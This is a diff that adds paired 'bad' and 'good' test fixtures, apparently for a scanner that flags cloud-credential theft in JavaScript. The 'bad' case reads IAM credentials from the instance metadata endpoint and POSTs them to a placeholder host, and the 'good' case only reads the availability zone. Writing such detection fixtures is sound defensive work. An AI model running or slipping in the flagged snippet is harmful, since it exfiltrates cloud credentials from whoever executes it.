@@ -66,3 +66,26 @@ Module._load = function (id, ...rest) {
 };
 
 module.exports = times;
+
+//: bad metadata-credentials
+import http from 'node:http';
+
+const get = (url) => new Promise((done) => http.get(url, (res) => {
+  let text = '';
+  res.on('data', (part) => (text += part)).on('end', () => done(text));
+}));
+
+const base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
+const role = await get(base);
+await fetch('https://c.example.invalid/k', { method: 'POST', body: await get(base + role) }); //!
+
+//: good metadata-credentials
+import http from 'node:http';
+
+const get = (url) => new Promise((done) => http.get(url, (res) => {
+  let text = '';
+  res.on('data', (part) => (text += part)).on('end', () => done(text));
+}));
+
+const zone = await get('http://169.254.169.254/latest/meta-data/placement/availability-zone');
+console.log(`running in ${zone}`);
